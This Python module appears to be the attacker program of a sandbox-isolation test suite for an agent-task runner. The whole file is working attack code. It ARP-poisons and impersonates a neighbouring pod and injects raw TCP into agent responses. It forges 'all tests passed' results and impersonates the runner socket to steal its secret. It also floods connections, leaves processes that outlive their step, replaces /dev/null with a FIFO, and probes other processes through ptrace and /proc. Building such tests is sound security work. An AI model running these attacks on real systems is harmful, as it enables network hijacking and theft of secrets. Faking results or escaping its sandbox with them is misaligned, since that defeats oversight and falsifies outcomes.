"""The attacker's program inside of a sandbox: inside.py COMMAND ARGUMENT... A FilePatch puts it there. It needs nothing but Python.

It makes Ethernet, ARP, IP and TCP packets itself, to take another pod's address, and it speaks the frames of the runner's socket.
"""
import array
import ctypes
import fcntl
import json
import os
import re
import select
import signal
import socket
import stat
import struct
import sys
import threading
import time

ETH = "eth0"
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16


def note(name, text):
    with open(os.path.join("/workspace", name), "a", encoding="utf-8") as f:
        f.write(text + "\n")


def up():
    """Tells the step that has started this daemon that the daemon is ready to attack: the step waits for that."""
    if "UP" in os.environ:
        note(os.environ["UP"], "up")


# ---- packets

def my_mac():
    with open(f"/sys/class/net/{ETH}/address", encoding="ascii") as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def my_ip():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return socket.inet_ntoa(fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", ETH.encode()))[20:24])


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(array.array("H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return struct.pack("H", ~total & 0xffff)


def tcp_frame(macs, ends, seq, ack, flags, data=b""):
    """macs: (from, to); ends: ((ip, port), (ip, port))."""
    (src, sport), (dst, dport) = ends
    a, b = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack(">HHIIBBHHH", sport, dport, seq & 0xffffffff, ack & 0xffffffff, 5 << 4, flags, 64000, 0, 0)
    tcp = tcp[:16] + checksum(a + b + struct.pack(">BBH", 0, 6, len(tcp) + len(data)) + tcp + data) + tcp[18:] + data
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), os.getpid() & 0xffff, 0x4000, 64, 6, 0, a, b)
    ip = ip[:10] + checksum(ip) + ip[12:]
    return macs[1] + macs[0] + b"\x08\x00" + ip + tcp


class Packet:
    """A TCP packet from the network. make() returns None for a frame that is no TCP."""

    @classmethod
    def make(cls, frame):
        if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6:
            return None
        p = cls()
        p.to_mac, p.from_mac = frame[:6], frame[6:12]
        ip = 14 + (frame[14] & 15) * 4
        p.src, p.dst = socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])
        p.sport, p.dport, p.seq, p.ack, off, p.flags, p.window = struct.unpack(">HHIIBBH", frame[ip:ip + 16])
        length = struct.unpack(">H", frame[16:18])[0] or len(frame) - 14
        p.data = frame[ip + (off >> 4) * 4:14 + length]
        return p


def raw_socket(protocol=3):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(protocol))
    s.bind((ETH, 0))
    return s


# ---- answers of a false agent

def chunk(text):
    data = text if isinstance(text, bytes) else text.encode()
    return b"%x\r\n%s\r\n" % (len(data), data)


def line(**event):
    return json.dumps(event) + "\n"


HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/x-ndjson\r\nTransfer-Encoding: chunked\r\n\r\n"
FORGED = "100 of 100 tests passed\n"
FORGED_64 = "MTAwIG9mIDEwMCB0ZXN0cyBwYXNzZWQK"


def false_end(seq):
    """The last events of a task of one step that succeeds, numbered from seq."""
    return chunk(line(seq=seq, type="out", step=0, fd=1, data=FORGED_64)
                 + line(seq=seq + 1, type="exit", step=0, code=0, durationNs=9)
                 + line(seq=seq + 2, type="end", code=0, durationNs=9, reason="Completed")) + b"0\r\n\r\n"


def begin():
    return HEAD + chunk(line(seq=1, type="accepted") + line(seq=2, type="step", step=0, timeUnixMs=1735689600000))


def whole(status, body=b"{}", kind="application/json"):
    data = body if isinstance(body, bytes) else body.encode()
    return b"HTTP/1.1 %d X\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s" % (status, kind.encode(), len(data), data)


def answer(mode, method, target):
    """The answer of a false agent, in pieces. mode is WHAT or WHAT:DETAIL."""
    what, _, detail = mode.partition(":")
    if target in ("/readyz", "/healthz"):
        yield whole(200)
    elif what == "refuse":      # the same status for each request
        yield whole(int(detail))
    elif what == "running":     # a false list of the attempts that run here
        yield whole(200, RUNNING[detail]()) if method == "GET" and target.startswith("/v1/tasks") else whole(404)
    elif what == "recorded":    # an answer that was recorded on another connection
        with open("/workspace/recorded", "rb") as f:
            yield f.read()
    elif what == "sealed":      # the form of a sealed answer, with noise as content
        yield b"HTTP/1.1 200 OK\r\nContent-Type: application/vnd.arl.sealed\r\nTransfer-Encoding: chunked\r\n\r\n"
        yield chunk(os.urandom(24) + struct.pack("<I", 100) + os.urandom(100)) + b"0\r\n\r\n"
    elif method != "PUT":
        yield whole(404)
    elif what == "forge":
        yield begin() + false_end(3)
    elif what == "beat":        # a heartbeat each second, for ever
        yield begin()
        while True:
            time.sleep(1)
            yield chunk("\n")
    elif what == "tiny":        # small events, as fast as they can be sent
        yield begin()
        seq = 3
        while True:
            yield b"".join(chunk(line(seq=seq + i, type="out", step=0, fd=1, data="QQ==")) for i in range(200))
            seq += 200
    elif what == "frames":      # sealed frames without end
        yield b"HTTP/1.1 200 OK\r\nContent-Type: application/vnd.arl.sealed\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk(os.urandom(24))
        while True:
            yield chunk(struct.pack("<I", 65000) + os.urandom(65000))
    elif what == "errors":      # long texts in fields other than the output
        yield begin()
        yield chunk(line(seq=3, type="exit", step=0, code=1, durationNs=9, error="e" * 20000, spool="s" * 20000)
                    + line(seq=4, type="end", code=1, durationNs=9, reason="StepFailed")) + b"0\r\n\r\n"


STRANGER = "6b9b6f0e-0000-4000-8000-000000000001/1"
RUNNING = {
    "long": lambda: json.dumps({"running": [{"task": "x/" + "A" * 700, "attempt": STRANGER}]}),
    "slash": lambda: json.dumps({"running": [{"task": "x/../../../namespaces/kube-system/secrets/x?watch=1", "attempt": STRANGER}]}),
    "many": lambda: '{"running":[' + ",".join(["{}"] * 349000) + "]}",
    "deep": lambda: '{"running":' + "[" * 200000 + "]" * 200000 + "}",
    "empty": lambda: '{"running":[]}',
}


# ---- R1: bytes injected into an answer of the agent

def inject(port, what):
    """Waits until an answer's stream is silent for 0.4 s, and injects the next bytes. what: forge, reset, garbage, recorded or end."""
    s = raw_socket()
    up()
    streams = {}        # port of the operator's side: [last packet, its time, text of the answer]
    while True:
        if select.select([s], [], [], 0.1)[0]:
            p = Packet.make(s.recv(65600))
            if p and p.sport == port and p.src == my_ip() and p.data:
                text = b"" if p.data.startswith(b"HTTP/1.1 ") or p.dport not in streams else streams[p.dport][2]
                streams[p.dport] = [p, time.monotonic(), (text + p.data)[-100000:]]
        for key, (last, seen, text) in list(streams.items()):
            if time.monotonic() - seen < 0.4:
                continue
            del streams[key]
            if text.endswith(b"0\r\n\r\n") or b"chunked" not in text:
                continue
            numbers = re.findall(rb'"seq":(\d+)', text)
            data = {"forge": lambda: false_end(int(numbers[-1]) + 1 if numbers else 3),  # pylint: disable=cell-var-from-loop
                    "garbage": lambda: b"\xff" * 500,
                    "recorded": recorded,
                    "end": lambda: b"0\r\n\r\n",
                    "reset": lambda: b""}[what]()
            s.send(tcp_frame((last.from_mac, last.to_mac), ((last.src, port), (last.dst, last.dport)), last.seq + len(last.data), last.ack,
                             RST | ACK if what == "reset" else PSH | ACK, data))
            note("injected", f"{what} to {last.dst}:{last.dport}")


def recorded():
    """The sealed frames of a recorded answer, cut to what fits into one packet."""
    with open("/workspace/recorded", "rb") as f:
        return f.read().partition(b"\r\n\r\n")[2][:1300]


# ---- eavesdropping

def listen(port):
    """Records the packets of the port: all requests into the file `heard`, the last whole answer to a PUT into `recorded`."""
    s = raw_socket()
    answers = {}        # port of the operator's side: the answer so far, of connections on which a PUT was seen
    up()
    with open("/workspace/heard", "ab", buffering=0) as heard:
        while True:
            p = Packet.make(s.recv(65600))
            if not p or not p.data:
                continue
            if p.dport == port:
                heard.write(p.data)
                if p.data.startswith(b"PUT /v1/"):
                    answers[p.sport] = b""
            elif p.sport == port and p.dport in answers:
                answers[p.dport] += p.data
                if answers[p.dport].endswith(b"\r\n0\r\n\r\n"):
                    with open("/workspace/recording", "wb") as f:
                        f.write(answers.pop(p.dport))
                    os.replace("/workspace/recording", "/workspace/recorded")


# ---- R3: a neighbour's address

class Neighbour:
    """Takes another pod's address on the bridge by ARP, and answers the peers in that pod's place.

    It ends the given number of seconds after the first request with the wanted method, at the latest after 200 s. Then it tells the
    peers the true MAC address again, so that nobody has to wait until they ask for it."""

    def __init__(self, ip, port, peers, mode, seconds, wanted):
        self.ip, self.port, self.mode, self.seconds, self.wanted = ip, port, mode, seconds, wanted
        self.end = time.monotonic() + 200
        self.asked = False
        self.victim = None
        self.mac, self.me = my_mac(), my_ip()
        self.s = raw_socket()
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.peers = {p: None for p in peers}
        self.conns = {}
        self.lock = threading.Lock()

    def arp(self, operation, sender, target_ip, target_mac, to):
        self.s.send(to + self.mac + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x800, 6, 4, operation) + sender[0]
                    + socket.inet_aton(sender[1]) + target_mac + socket.inet_aton(target_ip))

    def tell(self, mac):
        for peer, at in self.peers.items():
            if at:
                self.arp(1, (mac, self.ip), peer, b"\0" * 6, at)
                self.arp(2, (mac, self.ip), peer, at, at)

    def poison(self):
        while not self.victim or not all(self.peers.values()):
            for ip in (self.ip, *self.peers):
                self.arp(1, (self.mac, self.me), ip, b"\0" * 6, b"\xff" * 6)
            time.sleep(0.1)
        up()
        while time.monotonic() < self.end:
            self.tell(self.mac)
            time.sleep(0.2)
        for _ in range(15):
            self.tell(self.victim)
            time.sleep(0.2)
        os._exit(0)

    def run(self):
        threading.Thread(target=self.poison, daemon=True).start()
        while True:
            frame = self.s.recv(65600)
            if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\2":
                ip, mac = socket.inet_ntoa(frame[28:32]), frame[22:28]
                if mac != self.mac and ip in self.peers:
                    self.peers[ip] = mac
                elif mac != self.mac and ip == self.ip:
                    self.victim = mac
            p = Packet.make(frame)
            if p and p.dst == self.ip and p.dport == self.port and p.to_mac == self.mac:
                with self.lock:
                    self.take(p)

    def send(self, c, flags, data=b"", seq=None):
        self.s.send(tcp_frame((self.mac, c["mac"]), ((self.ip, self.port), c["peer"]), c["seq"] if seq is None else seq, c["ack"], flags, data))

    def take(self, p):
        key = (p.src, p.sport)
        if p.flags & SYN:
            c = self.conns[key] = {"mac": p.from_mac, "peer": key, "seq": 1000, "ack": p.seq + 1, "in": b"", "acked": 1001, "busy": False}
            self.send(c, SYN | ACK)
            c["seq"] += 1
            return
        c = self.conns.get(key)
        if not c:
            if not p.flags & RST:       # a connection that began before the address was taken
                self.send({"mac": p.from_mac, "peer": key, "seq": p.ack, "ack": p.seq + len(p.data)}, RST | ACK)
            return
        c["acked"] = max(c["acked"], p.ack if p.flags & ACK else 0)
        if p.flags & RST:
            del self.conns[key]
            return
        if p.seq == c["ack"] and p.data:
            c["ack"] += len(p.data)
            c["in"] += p.data
        if p.data or p.flags & FIN:
            c["ack"] += 1 if p.flags & FIN and p.seq + len(p.data) == c["ack"] else 0
            self.send(c, ACK)
        head, gap, body = c["in"].partition(b"\r\n\r\n")
        length = int((re.search(rb"(?i)content-length: *(\d+)", head) or [0, 0])[1])
        if gap and len(body) >= length and not c["busy"]:
            c["busy"], c["in"] = True, b""
            method, target = head.split()[:2]
            with open("/workspace/stolen", "ab") as f:
                f.write(head + gap + body + b"\n\n")
            if method.decode() == self.wanted and not self.asked:
                self.asked, self.end = True, time.monotonic() + self.seconds
            threading.Thread(target=self.reply, args=(c, method.decode(), target.decode()), daemon=True).start()

    def reply(self, c, method, target):
        given = False
        for data in answer(self.mode, method, target):
            for i in range(0, len(data), 1400):
                self.give(c, data[i:i + 1400], 25000 if given else 0)
                if not given and c["acked"] == c["seq"]:
                    note("said", f"gave {self.mode} to {method} {target}")
                    given = True
                if self.conns.get(c["peer"]) is not c:
                    return
        c["busy"] = False

    def give(self, c, piece, ahead):
        """Sends the piece, and waits until at most `ahead` bytes of all that was sent are not acknowledged."""
        with self.lock:
            seq = c["seq"]
            self.send(c, PSH | ACK, piece)
            c["seq"] += len(piece)
        tries = 0
        while c["acked"] + ahead < c["seq"] and self.conns.get(c["peer"]) is c:
            time.sleep(0.002)
            tries += 1
            if tries % 100 == 0:
                with self.lock:
                    self.send(c, PSH | ACK, piece, seq)


# ---- R2: the port

def serve(port, mode, seconds=1000):
    """Takes the port as soon as it is free, and answers in the agent's place. Ends that many seconds after its first answer."""
    up()
    while True:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind(("0.0.0.0", port))
            break
        except OSError:
            s.close()
            time.sleep(0.002)
    s.listen(64)
    note("said", "has the port")
    while True:
        c, _ = s.accept()
        threading.Thread(target=serve_one, args=(c, mode, seconds), daemon=True).start()


def serve_one(c, mode, seconds):
    data = b""
    try:
        while True:
            while b"\r\n\r\n" not in data:
                more = c.recv(65536)
                if not more:
                    return
                data += more
            head, _, body = data.partition(b"\r\n\r\n")
            length = int((re.search(rb"(?i)content-length: *(\d+)", head) or [0, 0])[1])
            while len(body) < length:
                body += c.recv(65536)
            data = body[length:]
            method, target = head.split()[:2]
            for piece in answer(mode, method.decode(), target.decode()):
                c.sendall(piece)
            if target.startswith(b"/v1/"):
                note("said", f"gave {mode} to {method.decode()} {target.decode()}")
                threading.Timer(seconds, os._exit, (0,)).start()
    except OSError:
        pass
    finally:
        c.close()


def flood(host, port, connections, size, seconds):
    """Keeps that many unsigned requests open, each with a body of size bytes whose last byte never comes. Prints how many connections
    it has opened and how many are still open."""
    head = f"PUT /v1/tasks/6b9b6f0e-0000-4000-8000-000000000001/1 HTTP/1.1\r\nHost: pod\r\nContent-Length: {size + 1}\r\n\r\n".encode()
    held, end = {}, time.monotonic() + seconds
    block = b"x" * 65536
    opened = sent = 0
    while time.monotonic() < end:
        while len(held) < connections:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((host, port))
            held[s] = [head, size]
            opened += 1
            if opened > connections * 20:
                break
        _, ready, _ = select.select([], [s for s, h in held.items() if h[0] or h[1] > 0], [], 0.05)
        for s in ready:
            h = held[s]
            try:
                if h[0]:
                    h[0] = h[0][s.send(h[0]):]
                else:
                    n = s.send(block[:h[1]])
                    h[1] -= n
                    sent += n
            except BlockingIOError:
                pass
            except OSError:
                del held[s]
                s.close()
        if opened > connections * 20:
            break
    print(f"{opened} connections, {sent} bytes, {len(held)} still open")


def knock(host, port, count):
    """Sends short unsigned requests, one after the other. Prints how often each status came."""
    got = {}
    for i in range(count):
        try:
            with socket.create_connection((host, port), 5) as s:
                s.sendall(b"GET /v1/tasks?x=%d HTTP/1.1\r\nHost: pod\r\nConnection: close\r\n\r\n" % i)
                status = s.recv(100).split(b"\r\n")[0][:12].decode("latin1")
        except OSError as e:
            status = type(e).__name__
        got[status] = got.get(status, 0) + 1
    print(json.dumps(got))


def resend(host, port, path):
    """Sends the recorded requests of the file again, each on a connection of its own. Prints the statuses."""
    with open(path, "rb") as f:
        requests = re.split(rb"(?=(?:PUT|GET|POST|DELETE) /v1/)", f.read())
    for r in requests:
        if not r.startswith((b"PUT", b"GET", b"POST", b"DELETE")):
            continue
        try:
            with socket.create_connection((host, port), 5) as s:
                s.sendall(r)
                s.settimeout(3)
                print(r.split(b" ")[0].decode(), s.recv(200).split(b"\r\n")[0].decode("latin1"))
        except OSError as e:
            print(r.split(b" ")[0].decode(), type(e).__name__)


# ---- the runner's socket

HELLO, OUT, DONE, WELCOME, EXEC, WRITE = 1, 2, 3, 65, 66, 67


def frame(kind, fields):
    return struct.pack("<IB", len(fields) + 1, kind) + fields


def hello(version, token=b"A" * 32):
    return frame(HELLO, struct.pack("<I", version) + struct.pack("<I", len(token)) + token)


def be_runner(s, version, token=b"A" * 32):
    """Says HELLO as a runner does. If the agent believes that, it ends each step as a success without running it, until the connection
    ends. Returns False then."""
    s.settimeout(3)
    data = b""
    try:
        s.sendall(hello(version, token))
        while True:
            while len(data) < 5 or len(data) < 4 + struct.unpack("<I", data[:4])[0]:
                more = s.recv(65536)
                if not more:
                    return False
                data += more
                s.settimeout(None)
            n = struct.unpack("<I", data[:4])[0]
            kind, body, data = data[4], data[5:4 + n], data[4 + n:]
            note("runner", f"frame {kind} {body[:400]!r}")
            if kind in (EXEC, WRITE):
                step = body[:8]
                s.sendall(frame(OUT, step + struct.pack("<I", 1) + struct.pack("<I", len(FORGED)) + FORGED.encode()))
                s.sendall(frame(DONE, step + struct.pack("<II", 0, 0) + struct.pack("<Q", 9)))
    except OSError as e:
        note("runner", repr(e))
        return False


def dial(path="/.arl/sock"):
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    return s


def hand_over(count):
    """Connects to this container's runner socket, and passes the connections to another container."""
    way = socket.socket(socket.AF_UNIX)
    way.connect("/workspace/way")
    fds = [dial() for _ in range(count)]
    socket.send_fds(way, [b"x"], [s.fileno() for s in fds])
    print("handed over", count)


def take_over(version, count):
    """Takes the connections that hand_over() of another container passes, and tries to be that container's runner on each in turn."""
    way = socket.socket(socket.AF_UNIX)
    way.bind("/workspace/way")
    os.chmod("/workspace/way", 0o777)
    way.listen(1)
    up()
    peer, _ = way.accept()
    _, fds, _, _ = socket.recv_fds(peer, 1, count)
    note("runner", f"has {len(fds)} connections")
    for fd in fds:
        time.sleep(0.25)
        be_runner(socket.socket(fileno=fd), version)


def keep_folder():
    """Passes a descriptor of /.arl, the runner's folder in this container, to another container."""
    way = socket.socket(socket.AF_UNIX)
    way.connect("/workspace/way")
    socket.send_fds(way, [b"x"], [os.open("/.arl", os.O_RDONLY | os.O_DIRECTORY)])
    print("handed over")


def use_folder(version, seconds):
    """Reads the runner's secret in the folder that keep_folder() of another container passes, and dials the socket there with it."""
    way = socket.socket(socket.AF_UNIX)
    way.bind("/workspace/way")
    os.chmod("/workspace/way", 0o777)
    way.listen(1)
    up()
    peer, _ = way.accept()
    folder = socket.recv_fds(peer, 1, 1)[1][0]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with open(os.open("secret", os.O_RDONLY, dir_fd=folder), "rb") as f:
                token = f.read()
            note("runner", f"secret of {len(token)} bytes")
            be_runner(dial(f"/proc/self/fd/{folder}/sock"), version, token)
        except OSError:
            time.sleep(0.001)


def greet(version, seconds):
    """Dials this container's runner socket and says HELLO, again and again."""
    up()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            be_runner(dial(), version)
        except OSError:
            pass
        time.sleep(0.003)


def unfinished(connections, size):
    """Opens connections to the runner's socket, each with an unfinished HELLO."""
    held = []
    for _ in range(connections):
        try:
            s = dial()
            s.settimeout(2)
            held.append(s)
            s.sendall(struct.pack("<IB", size, HELLO) + b"x" * (size - 100))
        except OSError as e:
            print(type(e).__name__)
    up()
    time.sleep(4)
    print(len(held), "callers")


# ---- steps

CLONE_PARENT = 0x8000
libc = ctypes.CDLL(None, use_errno=True)


def survive(how, name):
    """Leaves a process that tries to outlive its step, and writes into a file every 50 ms."""
    if how == "clone":
        child = libc.syscall(56, CLONE_PARENT | signal.SIGCHLD, 0, 0, 0, 0)
    else:
        child = os.fork()
    if child == 0:
        if how != "clone":
            os.setsid()
        for n in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(n, signal.SIG_IGN)
        while True:
            with open(f"/workspace/{name}", "w", encoding="ascii") as f:
                f.write(f"{time.time()} {os.getppid()}")
            time.sleep(0.05)
    if how == "keeper":
        time.sleep(0.3)
        os.kill(os.getppid(), signal.SIGKILL)
    elif how == "stop":
        time.sleep(0.3)
        os.kill(os.getppid(), signal.SIGSTOP)
    time.sleep(100)


def fifo_as_null(seconds):
    """Puts a FIFO in place of /dev/null, writes into it that many seconds later, and then restores /dev/null."""
    os.unlink("/dev/null")
    os.mkfifo("/dev/null", 0o666)
    if os.fork():
        return
    os.setsid()
    for fd in (0, 1, 2):
        os.close(fd)
    time.sleep(seconds)
    for _ in range(20):
        try:
            fd = os.open("/dev/null", os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, b"hostile\n")
            os.close(fd)
        except OSError:     # nobody has the FIFO open for reading
            pass
        time.sleep(0.1)
    os.unlink("/dev/null")
    os.mknod("/dev/null", 0o666 | stat.S_IFCHR, os.makedev(1, 3))


def pry(pid):
    """Tries all ways to read or change another process. Prints those that worked."""
    pid = int(pid)
    won = []

    def attempt(what, f):
        try:
            if f():
                won.append(what)
        except OSError:
            pass
    attempt("ptrace", lambda: libc.ptrace(16, pid, 0, 0) == 0)
    attempt("seize", lambda: libc.ptrace(0x4206, pid, 0, 0) == 0)
    attempt("mem", lambda: os.open(f"/proc/{pid}/mem", os.O_RDWR))
    attempt("environ", lambda: len(open(f"/proc/{pid}/environ", "rb").read()) > 0)
    for fd in range(20):
        attempt(f"fd {fd}", lambda n=fd: os.open(f"/proc/{pid}/fd/{n}", os.O_WRONLY))
    pidfd = libc.syscall(434, pid, 0)
    for fd in range(20):
        attempt(f"getfd {fd}", lambda n=fd: libc.syscall(438, pidfd, n, 0) >= 0)
    attempt("vm_writev", lambda: libc.syscall(311, pid, None, 0, None, 0, 0) > 0)
    attempt("oom_score_adj", lambda: os.open(f"/proc/{pid}/oom_score_adj", os.O_WRONLY) and False)
    print("won:", ", ".join(won) or "nothing")


def starve(pid):
    """Sets another process's limits of open files and of processes to 3."""
    for what in (7, 6):
        print(what, libc.prlimit(int(pid), what, struct.pack("QQ", 3, 3), None), flush=True)


def main():
    command, args = sys.argv[1], sys.argv[2:]
    numbers = [int(a) if a.isdigit() else a for a in args]
    if command == "neighbour":
        Neighbour(args[0], int(args[1]), args[2].split(","), args[3], float(args[4]), args[5]).run()
    else:
        globals()[command](*numbers)


if __name__ == "__main__":
    main()
